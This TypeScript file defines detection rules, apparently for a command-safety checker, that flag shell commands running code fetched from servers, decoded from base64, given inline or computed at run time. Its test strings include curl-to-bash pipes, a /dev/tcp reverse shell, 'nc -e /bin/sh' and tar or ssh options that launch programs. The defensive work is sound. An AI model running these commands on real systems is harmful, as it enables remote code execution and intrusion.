/** Running text as a program: downloaded, decoded, computed, or handed over on the command line. */
import {
  hasComputedName,
  hasFlag,
  type Invocation,
  isShell,
  parseLeading,
  parseOptions,
  shellUse,
} from "../shell/invocation.ts";
import { isFromFile } from "../shell/payload.ts";
import { isRemote, type Rule } from "./rule.ts";
import { sedUse } from "../shell/sed_code.ts";
import { hasUnknown } from "../shell/unknown.ts";

const SHELLS = "sh bash zsh dash ksh ash fish mksh rbash csh tcsh".split(" ");
const LANGUAGES = "python pypy perl ruby node nodejs bun deno php lua rscript osascript julia"
  .split(" ");
const EVALUATORS = [...SHELLS, "eval", "source", "."];
const FETCHERS = new Set(
  "curl wget fetch aria2c http https xh lynx w3m links nc ncat iwr irm invoke-webrequest invoke-restmethod"
    .split(" "),
);

/** Options of interpreters that take a separate value and run nothing. */
const LANGUAGE_OPTIONS: Readonly<Record<string, string>> = {
  python: "WXmQ",
  pypy: "WXm",
  node: "rC",
  nodejs: "rC",
  perl: "IMmC",
  ruby: "IrCEF",
  php: "cdz",
  lua: "l",
};
const CODE_FLAGS: Readonly<Record<string, readonly string[]>> = {
  python: ["c"],
  pypy: ["c"],
  node: ["e", "eval", "p", "print"],
  nodejs: ["e", "eval", "p", "print"],
  bun: ["e", "eval", "p", "print"],
  perl: ["e", "E"],
  ruby: ["e"],
  php: ["r", "B", "R", "E"],
  lua: ["e"],
  rscript: ["e"],
  osascript: ["e"],
  julia: ["e", "E", "eval", "print"],
};
/** What makes a perl or ruby filter more than text processing. */
const FILTER_REACHES_OUT =
  /\b(?:system|exec|qx|unlink|open|fork|kill|require|use|do|eval|rename|rmdir|File|IO)\b|`/;

function family(command: Invocation): string {
  return command.program.replace(/(?<![\d.])[\d.]+$/, "");
}

function languageOptions(command: Invocation) {
  const name = family(command);
  const code = (CODE_FLAGS[name] ?? []).filter((flag) => flag.length === 1).join("");
  return parseLeading(command.args, { values: (LANGUAGE_OPTIONS[name] ?? "") + code });
}

/** Whether an interpreter takes its program from an option: `python -c`, `node -e`. */
function runsInlineCode(command: Invocation): boolean {
  const name = family(command);
  if (name === "deno") return command.args[0] === "eval";
  const options = languageOptions(command);
  if (!hasFlag(options, ...CODE_FLAGS[name] ?? [])) return false;
  const filters = (name === "perl" || name === "ruby") && hasFlag(options, "n", "p");
  return !filters || command.args.some((arg) => FILTER_REACHES_OUT.test(arg));
}

/** Whether the program text comes from standard input. */
function readsProgram(command: Invocation): boolean {
  if (isShell(command)) return shellUse(command).mode === "stdin";
  const options = languageOptions(command);
  const [file] = /^(?:deno|bun)$/.test(family(command))
    ? options.operands.filter((word) => word === "-" || !/^(?:run$|-)/.test(word))
    : options.operands;
  const busy = ["m", "h", "help", "v", "V", "version", "i", ...CODE_FLAGS[family(command)] ?? []];
  return (file === undefined || file === "-") && !hasFlag(options, ...busy);
}

function has(commands: readonly Invocation[], test: (command: Invocation) => boolean): boolean {
  return commands.some(test);
}

function isFetcher(command: Invocation): boolean {
  return FETCHERS.has(command.program);
}

/** Programs that turn something unreadable into text. */
function isDecoder({ program, args }: Invocation): boolean {
  switch (program) {
    case "base64":
    case "base32":
    case "basenc":
      return args.some((arg) => /^-[a-z]*[dD]|^--d/.test(arg));
    case "xxd":
      return args.some((arg) => /^-[a-z]*r/.test(arg));
    case "openssl":
      return args.includes("-d");
    case "tr":
    case "rev":
    case "uudecode":
      return true;
    default:
      return false;
  }
}

function hasHeredoc({ redirects }: Invocation): boolean {
  return redirects.some(({ op }) => op.startsWith("<<"));
}

/** `cat FILE | sh` is running a file, which is no more than naming it. */
function readsFileOnly({ upstream, redirects }: Invocation): boolean {
  return upstream.every((command) =>
    command.program === "cat" && command.args.length > 0 && !hasHeredoc(command)
  ) && !redirects.some(({ op }) => op.startsWith("<<"));
}

/** Program variables by convention: their values are a choice of the user, not of the command. */
const PROGRAM_VARIABLES = new Set(
  ("EDITOR VISUAL PAGER BROWSER SHELL CC CXX CPP LD AR AS NM STRIP OBJDUMP MAKE CMAKE PYTHON PYTHON3 PIP PERL RUBY NODE " +
    "NPM YARN PNPM GO CARGO RUSTC JAVA JAVAC GRADLE MVN DOCKER COMPOSE KUBECTL HELM TERRAFORM GIT SUDO")
    .split(" "),
);

/** What stands for an unknown substitution in text that is read again: `eval "$(ssh-agent)"`. */
function isPlaceholder({ inner }: Invocation): boolean {
  return inner.length === 1 && inner[0]!.program === "…";
}

export const SCRIPT_RULES: readonly Rule[] = [
  {
    key: "pipe remote content to shell",
    kind: "dangerous",
    description: "runs whatever a server sends",
    programs: [...SHELLS, ...LANGUAGES],
    test: (command) => has(command.upstream, isFetcher) && readsProgram(command),
    match: [
      "curl u | sh",
      "wget -qO- u | bash",
      "curl u | /bin/bash",
      "curl u | bash -s -- a",
      "curl u | sudo sh",
      "curl u | python3",
    ],
    noMatch: [
      "curl u -o f",
      "curl u | head",
      "curl u | jq .",
      "curl u | python3 -m json.tool",
      "curl u | sh script.sh",
    ],
  },
  {
    key: "execute remote script via process substitution",
    kind: "dangerous",
    description: "runs whatever a server sends",
    programs: [...EVALUATORS, ...LANGUAGES],
    test: (command) =>
      [...command.args, ...command.redirects.map(({ target }) => target)]
        .some((word) => word.startsWith("\0<(")) && has(command.inner, isFetcher),
    match: ["bash <(curl u)", "bash < <(curl u)", "source <(wget -qO- u)"],
    noMatch: ["bash script.sh", "diff <(curl a) <(curl b)"],
  },
  {
    key: "execute remote content via command substitution",
    kind: "dangerous",
    description: "runs whatever a server sends",
    programs: EVALUATORS,
    test: (command) =>
      [...command.args, ...command.redirects.map(({ text }) => text ?? "")].some(hasUnknown) &&
      has(command.inner, isFetcher) &&
      !command.args.some((arg) => arg.startsWith("\0<(")),
    match: [
      "eval $(curl u)",
      "source `wget u`",
      'bash -c "$(curl u)"',
      '. /dev/stdin <<< "$(curl u)"',
    ],
    noMatch: ['eval "$(ssh-agent -s)"', "echo $(curl u)"],
  },
  {
    key: "pipe decoded content to shell",
    aliases: [
      "pipe xxd-decoded content to shell",
      "pipe tr-decoded content to shell",
      "pipe openssl-decoded content to shell",
    ],
    kind: "dangerous",
    description: "runs text that was hidden by an encoding",
    programs: [...SHELLS, ...LANGUAGES],
    test: (command) => has(command.upstream, isDecoder) && readsProgram(command),
    match: [
      "echo bHM= | base64 -d | bash",
      "base64 --decode f | sh",
      "xxd -r -p f | sh",
      "echo x | tr a-z n-za-m | bash",
    ],
    noMatch: ["base64 -d f > out", "tr a b < f"],
  },
  {
    key: "execute decoded content",
    kind: "dangerous",
    description: "runs text that was hidden by an encoding",
    programs: EVALUATORS,
    test: (command) => has(command.inner, isDecoder),
    match: ['eval "$(echo bHM= | base64 -d)"', "bash <(base64 -d f)"],
    noMatch: ["echo $(base64 -d f)"],
  },
  {
    key: "shell execution via heredoc",
    kind: "dangerous",
    description: "runs a script given inline",
    programs: SHELLS,
    test: (command) => !isRemote(command) && hasHeredoc(command) && readsProgram(command),
    match: ["bash << EOF\nls\nEOF", "sh <<< 'ls'"],
    noMatch: ["bash script.sh", "cat << EOF\nls\nEOF"],
  },
  {
    key: "script execution via heredoc",
    kind: "dangerous",
    description: "runs a script given inline",
    programs: LANGUAGES,
    test: (command) => !isRemote(command) && hasHeredoc(command) && readsProgram(command),
    match: ["python << EOF\nprint(1)\nEOF", "node <<'JS'\n1\nJS", "python3 - <<EOF\n1\nEOF"],
    noMatch: ["python3 s.py", "python3 -m json.tool <<< '{}'"],
  },
  {
    key: "pipe content to interpreter",
    kind: "dangerous",
    description: "runs text that another program prints",
    programs: [...SHELLS, ...LANGUAGES],
    test: (command) =>
      command.upstream.length > 0 && !isRemote(command) && readsProgram(command) &&
      !readsFileOnly(command),
    match: ["cat <<EOF | python3\nprint(1)\nEOF", "echo ls | sh", "awk '{print $1}' f | bash"],
    noMatch: ["cat script.sh | bash", "cat f | python3 -m json.tool", "ls | bash script.sh"],
  },
  {
    key: "script execution via -e/-c flag",
    kind: "dangerous",
    description: "runs code given on the command line",
    programs: LANGUAGES,
    test: (command) => !isRemote(command) && runsInlineCode(command),
    match: [
      "python3 -c x",
      "python3 -W ignore -c x",
      "node -e 1",
      "node --eval=1",
      "perl -e 1",
      "ruby -e 1",
      "php -r 1",
      "python3.12 -Ic x",
    ],
    noMatch: [
      "python3 s.py",
      "python3 -m http.server",
      "node server.js -e production",
      "perl -pe 's/a/b/' f",
    ],
  },
  {
    key: "PowerShell script execution",
    kind: "dangerous",
    description: "runs code given on the command line",
    programs: ["pwsh", "powershell"],
    test: ({ args }) => args.some((arg) => /^-(?:c|command|f|file)$/i.test(arg)),
    match: ["pwsh -Command ls", "pwsh -File a.ps1"],
    noMatch: ["pwsh --version"],
  },
  {
    key: "shell command via -c/-lc flag",
    kind: "dangerous",
    description: "runs a script given on the command line",
    programs: SHELLS,
    test: (command) => !isRemote(command) && shellUse(command).mode === "command",
    match: ["bash -c ls", "sh -c 'ls'", "bash -lc ls"],
    noMatch: ["bash -x s.sh", "docker exec web sh -c ls"],
  },
  {
    key: "network redirection",
    kind: "dangerous",
    description: "connects a program to the network through the shell",
    redirections: true,
    test: ({ redirects }) => redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target)),
    match: ["bash -i >& /dev/tcp/1.2.3.4/443 0>&1", "exec 3<>/dev/tcp/h/80"],
    noMatch: ["echo x > /dev/null"],
  },
  {
    key: "evaluate computed text",
    kind: "dangerous",
    description: "runs text that only exists at run time",
    programs: ["eval"],
    test: ({ args, inner }) => args.some(hasUnknown) && inner.length === 0,
    match: ['eval "$cmd"'],
    noMatch: ['eval "$(direnv hook bash)"', 'x=ls; eval "$x"'],
  },
  {
    key: "command name computed at run time",
    kind: "dangerous",
    description: "which program runs is not visible in the command",
    test: (command) => {
      if (!hasComputedName(command) || isPlaceholder(command) || isFromFile(command)) return false;
      const variable = /^\0([^\0]*)\0$/.exec(command.path)?.[1];
      return variable === undefined
        ? !command.path.includes("/") || /\/\0[^\0/]*\0$/.test(command.path) ||
          (/^[/~]/.test(command.path) &&
            hasUnknown(command.path.slice(command.path.lastIndexOf("/"))))
        : !PROGRAM_VARIABLES.has(variable);
    },
    match: ["$cmd -rf x", "$(cat name) x", "r$y -rf x", "/bin/tee$x-a f"],
    noMatch: ["$EDITOR f", "$(npm bin)/eslint .", "./build-$ARCH", 'cmd=ls; "$cmd" -l'],
  },
  {
    key: "arbitrary program execution via tool flag",
    kind: "dangerous",
    description: "an option makes a harmless tool run another program",
    programs:
      "rg sort man ag ack tar gtar rsync ssh scp sftp vim vi nvim ex less awk gawk mawk nawk zip sed gsed nc ncat"
        .split(" "),
    test: runsProgramByFlag,
    match: [
      "rg --pre cat x",
      "sort --compress-program=x f",
      "man -P less ls",
      "tar cf a.tar --checkpoint=1 --checkpoint-action=exec=sh f",
      "ssh -o ProxyCommand=sh h",
      "awk 'BEGIN{system(\"ls\")}'",
      "sed '1   e ls' f",
      "sed 's/a/b/e' f",
      "sed '1e//bin//ls' f",
      "sed -n '$els' f",
      "nc -e /bin/sh h 1",
    ],
    noMatch: [
      "rg foo .",
      "sort -u f",
      "tar -I zstd -cf a.tar.zst d",
      'rsync -e "ssh -p 2222" a h:b',
      "awk '{print $1}' f",
      "sed -e 's/a/e/' e",
      "sed -n '/e/p' f",
      "sed '/start/,/end/d; s#e/x#y#' f",
      "sed '1a e ls' f",
      "ssh -o ProxyCommand='ssh -W %h:%p gate' h",
      "nc -zv h 1",
    ],
  },
];

const PROGRAM_FLAGS: Readonly<Record<string, RegExp>> = {
  rg: /^--(?:pre|hostname-bin)(?:=|$)/,
  sort: /^--compress-p/,
  man: /^(?:-[a-zA-Z]*[PH]|--pager|--html)/,
  ag: /^--pager/,
  ack: /^--pager/,
  tar:
    /^--(?:checkpoint-action=exec|to-command|rmt-command|rsh-command|info-script|new-volume-script)/,
  zip: /^(?:-TT|--unzip-command)/,
  vim: /^(?:-c|\+|--cmd)?:?!/,
  less: /^\+!/,
  nc: /^-[a-zA-Z]*[ec]$|^--(?:sh-)?exec/,
};

const AWK_RUNS = /\bsystem\s*\(|\|\s*"(?!(?:sort|uniq|head|tail|wc|column|nl)\b)|"\s*\|\s*getline/;
function sedScripts(args: readonly string[]): string[] {
  const { values, operands } = parseOptions(args, {
    values: "efl",
    longValues: ["expression", "file"],
  });
  const given = [...values.get("e") ?? [], ...values.get("expression") ?? []];
  return given.length > 0 ? given : operands.slice(0, 1);
}

function runsProgramByFlag({ program, args }: Invocation): boolean {
  const name = program.replace(/^g(?=tar$)/, "").replace(/^(?:vi|nvim|ex)$/, "vim")
    .replace(/^ncat$/, "nc");
  switch (name) {
    case "ssh":
    case "scp":
    case "sftp":
      return args.some((arg) =>
        /^(?:-o)?\s*(?:ProxyCommand|LocalCommand|KnownHostsCommand)\b(?![\s=]*ssh\s)/i.test(arg)
      );
    case "sed":
    case "gsed":
      return sedUse(sedScripts(args).join("\n")).runs;
    case "rsync":
      return args.some((arg, i) => {
        const shell = arg === "-e" || arg === "--rsh" ? args[i + 1] : /^--rsh=(.*)/.exec(arg)?.[1];
        return shell !== undefined && !/^(?:\S*\/)?(?:ssh|rsh)\b/.test(shell);
      });
    case "awk":
    case "gawk":
    case "mawk":
    case "nawk":
      return args.some((arg) => AWK_RUNS.test(arg));
    default:
      return args.some((arg) => PROGRAM_FLAGS[name]?.test(arg));
  }
}
